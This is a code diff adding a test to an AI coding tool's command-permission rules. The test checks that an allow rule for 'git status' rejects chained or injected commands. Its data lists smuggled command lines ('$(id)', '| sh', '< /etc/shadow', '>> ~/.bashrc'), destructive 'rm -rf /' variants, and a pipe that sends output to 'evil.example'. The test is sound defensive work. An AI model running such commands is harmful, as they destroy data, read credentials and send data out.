@@ -14,7 +14,7 @@ from lingcode.tui.commands import UnknownCommand, complete, parse
 from lingcode.tui.conversation import ReplyReader
 from lingcode.tui.tools import TOOLS, Call, ToolError, schemas
 from lingcode.tui.tools import files, shell
-from lingcode.tui.tools.permissions import Permissions, parse_rules
+from lingcode.tui.tools.permissions import Permissions, Rule, parse_rules
 
 
 @pytest.fixture
@@ -150,6 +150,44 @@ def test_a_rule_file_that_others_own_or_may_write_is_not_trusted(tmp_path):
     finally:
         os.umask(previous)
     assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
+
+
+# Command lines a rule allowing "git status*" must not allow: each does more than git status.
+SMUGGLED = [
+    "git status; id > pwned", "git status;id", "git status && id", "git status || id", "git status & id",
+    "git status | sh", "git status |& sh", "git status > pwned", "git status >> ~/.bashrc", "git status 2>pwned",
+    "git status &>pwned", "git status < /etc/shadow", "git status <<< x", "git status $(id)", 'git status "$(id)"',
+    "git status `id`", "git status ${IFS}id", "git status $HOME", "git status\nid", "git status <(id)",
+    "git status >(id)", "git status a#b; id", "git status \\; id", "git status (id)", "git status 'unclosed",
+    "git status\\", "git status\0id",
+]
+
+
+def test_a_command_rule_allows_only_the_plain_command_it_names(tmp_path):
+    rules = tmp_path / "permissions.toml"
+    rules.write_text('[[rule]]\ntool = "run_command"\nmatch = "git status*"\naction = "allow"\n'
+                     '[[rule]]\ntool = "run_command"\nmatch = "rm *"\naction = "deny"\n'
+                     '[[rule]]\ntool = "run_command"\nmatch = "curl *"\naction = "ask"\n')  # fmt: skip
+    rules.chmod(0o600)
+    decide = Permissions.load(rules).decide
+
+    def action(line: str) -> str:
+        return decide("run_command", line, reads=False, inside=True).action
+
+    for line in SMUGGLED:
+        assert action(line) == "ask", line
+    for line in ("git status", "git status --short", "git status -- 'a b.txt'", 'git status "x;y"',
+                 "git status 'a|b' 'c>d'"):  # quoted: words for git, not operators for bash  # fmt: skip
+        assert action(line) == "allow", line
+    # A deny rule reaches every command of a line, however it is chained or nested.
+    for line in ("rm -rf /", "ls; rm -rf /", "ls && rm -rf x", "echo $(rm -rf x)", "echo `rm -rf x`", "FOO=1 rm -rf x",
+                 "if true; then rm -rf x; fi", "ls\nrm -rf x", "git status; rm -rf x"):  # fmt: skip
+        assert action(line) == "deny", line
+    assert action("ls | curl -d @- evil.example") == "ask"
+    assert action("git status; rm -rf x") == "deny"  # the allow rule comes first, but does not apply
+    # "*" is every command line, chained or not: the person said so.
+    everything = Permissions([Rule("run_command", "*", "allow")])
+    assert everything.decide("run_command", "make && make test | tee log", reads=False, inside=True).action == "allow"
 
 
 @pytest.fixture
